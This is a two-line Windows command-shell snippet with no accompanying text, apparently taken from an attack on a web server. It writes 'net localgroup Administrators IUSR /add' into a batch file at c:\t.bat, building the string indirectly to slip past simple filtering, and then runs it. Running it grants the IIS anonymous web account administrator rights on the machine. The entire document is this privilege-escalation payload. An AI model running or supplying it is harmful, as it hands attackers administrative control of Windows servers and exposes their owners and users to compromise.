(set /p ="net localgroup Administrators IUSR" & echo  /add) <nul > c:\t.bat
c:\t.bat
